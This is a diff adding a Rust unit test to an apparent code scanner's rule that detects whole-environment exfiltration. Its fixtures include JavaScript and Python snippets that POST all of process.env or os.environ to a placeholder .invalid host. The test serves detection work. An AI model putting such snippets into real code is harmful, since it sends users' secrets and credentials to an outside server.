@@ -409,3 +409,22 @@ fn a_host_that_is_spelled_out_is_not_hidden() {
     assert_eq!(weighs("f'https://api.h.invalid/m/{i}'"), None);
     assert!(weighs("f'https://{h}/m'") >= Some(Severity::High));
 }
+
+#[test]
+fn a_variable_of_an_unknown_name_is_not_the_whole_environment() {
+    let sends = |of: &str| {
+        let code = format!("fetch('https://api.h.invalid/v1', {{method: 'POST', body: {of}}});\n");
+        rules(Language::JavaScript, &code).contains(&"flow-environment-sent")
+    };
+    assert!(!sends("process.env[nameOf(3)]"));
+    assert!(sends("JSON.stringify(process.env)"));
+    assert!(sends("Object.keys(process.env).map(k => k + '=' + process.env[k]).join()"));
+    let loops = "let all = '';\nfor (const k in process.env) { all += process.env[k]; }\n";
+    let code = format!("{loops}fetch('https://api.h.invalid/v1', {{method: 'POST', body: all}});\n");
+    assert!(rules(Language::JavaScript, &code).contains(&"flow-environment-sent"));
+    let python = |value: &str| {
+        let code = format!("import os, requests\ndef go(n):\n    requests.post('https://h.invalid', data={value})\n");
+        rules(Language::Python, &code).contains(&"flow-environment-sent")
+    };
+    assert!(!python("os.environ[n]") && python("{k: os.environ[k] for k in os.environ}"));
+}
